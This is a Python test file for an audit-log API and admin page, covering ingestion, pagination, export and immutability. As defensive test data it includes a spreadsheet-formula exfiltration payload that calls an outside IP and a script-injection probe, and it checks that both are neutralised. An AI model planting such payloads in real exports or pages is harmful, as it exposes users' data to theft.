"""The audit log over the API and on its page: filtered, exported, fed by the hub, and changed by nobody."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest

from ..workbench import ADA, ROOT
from .site import API, BASE, SERVICE_TOKEN, Answer, Site


def sent(site: Site, *entries: dict[str, Any], token: str = SERVICE_TOKEN) -> Answer:
    """What the hub hands over."""
    body = json.dumps({"entries": entries}).encode()
    return site.post("/audit/arrived", token, body=body, headers={"Content-Type": "application/json"})


def happened(
    key: str, action: str = "sign-in.done", at: float = 1_790_000_000.0, **more: Any
) -> dict[str, Any]:
    return {"key": key, "action": action, "at": at, "by": "eve", "address": "192.0.2.7", **more}


def test_what_the_hub_sends_twice_is_there_once(site: Site) -> None:
    first = [happened("a1"), happened("a2", "sign-in.failed", by="", whom="eve", at=1_790_000_001.0)]
    assert sent(site, *first).json == {"new": 2}
    assert sent(site, *first, happened("a3", "sign-out.done", at=1_790_000_002.0)).json == {"new": 1}
    found = site.get("/audit?address=192.0.2.7", ROOT).json["entries"]
    assert [(each["action"], each["by"], each["whom"]) for each in found] == [
        ("sign-out.done", "eve", ""),
        ("sign-in.failed", "", "eve"),
        ("sign-in.done", "eve", ""),
    ]
    assert found[-1]["at"].startswith("2026-09-21T")


def test_nothing_that_the_hub_sends_is_stuck(site: Site) -> None:
    odd = happened("odd", "Something Else", words="w" * 5000, object="o" * 900, by="odd-one")
    assert sent(site, odd).json == {"new": 1}
    (entry,) = site.get("/audit?by=odd-one", ROOT).json["entries"]
    assert (entry["action"], len(entry["object"])) == ("hub.changed", 255)
    assert entry["words"].startswith("Something Else: www")


def test_only_the_hub_hands_entries_over(site: Site) -> None:
    for token in ("token-root", "token-ada", SERVICE_TOKEN + "x"):
        assert sent(site, happened("never"), token=token).status == 401
    assert site.post("/audit/arrived", SERVICE_TOKEN, body=b"{}").status == 422
    big = json.dumps({"entries": [happened("x", words="w" * 5 * 2**20)]}).encode()
    assert site.post("/audit/arrived", SERVICE_TOKEN, body=big).status == 413


def test_pages_of_the_list(site: Site) -> None:
    sent(site, *(happened(f"p{n}", by="page-maker", at=1_790_000_100.0 + n) for n in range(7)))
    first = site.get("/audit?by=page-maker&limit=4", ROOT).json
    rest = site.get(f"/audit?by=page-maker&limit=4&before={first['next']}", ROOT).json
    assert [len(first["entries"]), len(rest["entries"]), rest["next"]] == [4, 3, None]
    assert len({each["id"] for each in first["entries"] + rest["entries"]}) == 7
    assert site.get("/audit?before=nonsense", ROOT).status == 400
    assert site.get("/audit?since=nonsense", ROOT).status == 400


def test_an_export_is_whole_harmless_and_noted(site: Site) -> None:
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    for half in (range(600), range(600, 1200)):
        sent(site, *(happened(f"e{n}", by="exporter", words=formula, object="@x") for n in half))
    answer = site.get("/audit/export?by=exporter", ROOT)
    assert answer.headers["content-type"].startswith("text/csv")
    assert 'filename="audit.csv"' in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == 1200
    assert {(row["by"], row["words"], row["object"]) for row in rows} == {("exporter", f"'{formula}", "'@x")}
    lines = site.get("/audit/export?by=exporter&format=jsonl", ROOT).text.splitlines()
    assert len(lines) == 1200
    assert json.loads(lines[0])["words"] == formula, "programs get it as it is"
    noted = site.get("/audit?action=audit.exported", ROOT).json["entries"]
    assert [each["words"] for each in noted[:2]] == ["jsonl: by exporter", "csv: by exporter"]
    assert noted[0]["by"] == "root"


def test_the_page_shows_filters_and_escapes(site: Site) -> None:
    sent(site, happened("h1", by="<b>bold</b>", words="<script>alert(1)</script>"))
    page = site.ask("GET", f"{BASE}/admin/audit?by=%3Cb%3Ebold%3C/b%3E", ROOT, cookie=True)
    assert page.status == 200
    assert "&lt;script&gt;alert(1)" in page.text
    assert "<script>alert" not in page.text
    assert "No entry fits" in site.ask("GET", f"{BASE}/admin/audit?by=nobody", ROOT, cookie=True).text
    wrong = site.ask("GET", f"{BASE}/admin/audit?since=soon", ROOT, cookie=True)
    assert wrong.status == 200
    assert "neither a day nor a time" in wrong.text
    exported = site.ask("GET", f"{BASE}/admin/audit/export?by=nobody&format=jsonl", ROOT, cookie=True)
    assert (exported.status, exported.body) == (200, b"")


def test_who_and_what_stand_apart_and_a_name_stands_once(site: Site) -> None:
    sent(site, happened("t1", "session.stopped", by="twice", whom="vera", object="vera"))
    sent(site, happened("t2", "group.changed", by="twice", whom="vera", object="team"))
    page = site.ask("GET", f"{BASE}/admin/audit?by=twice", ROOT, cookie=True).text
    assert page.count(">vera</a>") == 2
    assert re.search(r">team</a>\s+<a [^>]*>vera</a>", page)


def test_members_do_not_see_the_entry_to_it(site: Site) -> None:
    assert f'href="{BASE}/admin"' in site.ask("GET", f"{BASE}/", ROOT, cookie=True).text
    assert f'href="{BASE}/admin"' not in site.ask("GET", f"{BASE}/", ADA, cookie=True).text


@pytest.mark.parametrize("method", ["DELETE", "PUT", "PATCH", "POST"])
def test_there_is_no_way_to_change_or_delete(site: Site, method: str) -> None:
    for path in ("/audit", "/audit/1", "/audit/export", "/audit/verify"):
        assert site.ask(method, f"{API}{path}", ROOT).status in {404, 405}


def test_verify_says_that_all_is_as_it_was_written(site: Site) -> None:
    verdict = site.get("/audit/verify", ROOT).json
    assert verdict["broken"] is None
    assert verdict["entries"] > 0
    assert len(verdict["head"]) == 64
